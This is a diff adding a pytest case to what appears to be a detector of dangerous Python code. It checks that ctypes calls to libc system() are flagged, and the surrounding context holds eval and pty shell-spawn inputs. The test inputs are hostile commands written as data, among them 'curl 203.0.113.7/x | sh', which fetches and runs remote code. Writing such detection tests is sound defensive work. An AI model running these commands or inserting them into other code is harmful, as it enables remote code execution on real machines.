@@ -628,3 +628,17 @@ def test_code_without_any_other_telling_word_is_read_for_the_secrets_it_names(co
 @pytest.mark.parametrize("code", ["x = eval\ny = x(input())", "import pty\npty.spawn('/bin/sh')"])
 def test_a_word_that_is_also_part_of_common_words_is_not_overlooked(code: str) -> None:
     assert read_python(code)
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "import ctypes\nctypes.CDLL(None).system(b'curl -s http://203.0.113.7/x | sh')",
+        "import ctypes as c\nlibc = c.CDLL('libc.so.6')\nlibc.system(b'curl 203.0.113.7/x | sh')",
+        "from ctypes import cdll\ncdll.LoadLibrary('libc.so.6').system(b'curl 203.0.113.7/x | sh')",
+    ],
+)
+def test_a_command_that_is_run_through_the_c_library_is_run(code: str) -> None:
+    found = [fact for fact in read_python(code) if fact.act is Act.RUN_REMOTE]
+
+    assert [fact.host for fact in found] == ["203.0.113.7"]
